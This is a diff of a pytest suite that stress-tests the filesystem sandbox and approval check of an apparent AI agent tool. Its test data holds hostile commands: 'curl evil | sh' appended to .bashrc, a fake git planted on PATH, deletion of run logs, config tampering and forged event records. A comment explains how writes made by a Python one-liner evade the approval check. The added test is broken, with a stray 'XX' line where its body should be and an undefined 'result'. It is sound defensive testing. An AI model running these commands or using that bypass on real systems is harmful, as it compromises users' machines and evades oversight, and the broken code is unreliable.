@@ -105,14 +105,25 @@ def ran(user: Home, marker: str = "ran") -> bool:
 
 # --- the filesystem -------------------------------------------------------------------------------------------
 
+# Written by a program, not by the shell: the approval check (which asks before a redirection or a
+# `cp`/`touch`/`rm` outside the workspace) does not see these, so they meet the sandbox itself.
+APPEND = f"{sys.executable} -c \"import sys; open(sys.argv[1], 'a').write(sys.argv[2])\""
 WRITES = {
-    "shell rc file": (lambda u: u.home / ".bashrc", "echo 'curl evil | sh' >> {target}"),
-    "sibling directory": (lambda u: u.root / "sibling.txt", "echo pwned > {target}"),
+    "shell rc file": (lambda u: u.home / ".bashrc", APPEND + " {target} 'curl evil | sh'"),
+    "sibling directory": (lambda u: u.root / "sibling.txt", APPEND + " {target} pwned"),
     "K1412 user config": (lambda u: u.config_home / "k1412" / "config.toml",
-                          "printf '[providers.local]\\nbase_url = \"http://127.0.0.1:1/v1\"\\n' >> {target}"),
-    "planted helper on PATH": (lambda u: u.home / ".local" / "bin" / "git", "printf '#!/bin/sh\\necho owned\\n' > {target}"),
-    "run logs in the state dir": (lambda u: u.state / "runs", "rm -rf {target}"),
+                          APPEND + " {target} '[providers.local]'"),
+    "planted helper on PATH": (lambda u: u.home / ".local" / "bin" / "git", APPEND + " {target} '#!/bin/sh'"),
+    "run logs in the state dir": (lambda u: u.state / "runs",
+                                  f"{sys.executable} -c \"import shutil, sys; shutil.rmtree(sys.argv[1])\" {{target}}"),
 }
+
+
+def test_a_visible_write_outside_is_asked_about_first(user: Home) -> None:
+    """The same writes done by the shell are seen by the approval check and refused when nobody can be asked."""
+XX
+    assert result["ok"] is False and "outside the workspace" in result["error"] and not ran(user)
+    assert (user.home / ".bashrc").read_text() == "# rc\n"
 
 
 @pytest.mark.parametrize("name", list(WRITES))
@@ -168,9 +179,10 @@ def test_git_internals_are_read_only_by_default(user: Home) -> None:
 def test_user_listed_cache_directory_is_writable(user: Home) -> None:
     cache = user.home / ".cache" / "pip"
     cache.mkdir(parents=True)
-    attack(user, f"touch {cache}/wheel")
-    assert not (cache / "wheel").exists()
-    attack(user, f"touch {cache}/wheel", config=f'[sandbox]\nwritable = ["{cache}"]\n')
+    command = APPEND + f" {cache}/wheel x; touch ran"
+    attack(user, command)
+    assert ran(user) and not (cache / "wheel").exists()
+    attack(user, command, config=f'[sandbox]\nwritable = ["{cache}"]\n')
     assert (cache / "wheel").exists()
 
 
@@ -210,7 +222,7 @@ def test_other_run_logs_and_memories_are_hidden(user: Home) -> None:
 def test_the_events_copy_cannot_be_forged(user: Home) -> None:
     copy = user.root / "events" / "copy.jsonl"
     forged = '{"type": "run.completed", "payload": {"forged": true}}'
-    command = f"echo '{forged}' >> {copy}; touch ran"
+    command = APPEND + f" {copy} '{forged}'; touch ran"
     attack(user, command, events=copy)
     assert ran(user) and '"forged"' not in copy.read_text()
     attack(user, command, events=copy, config=OFF)
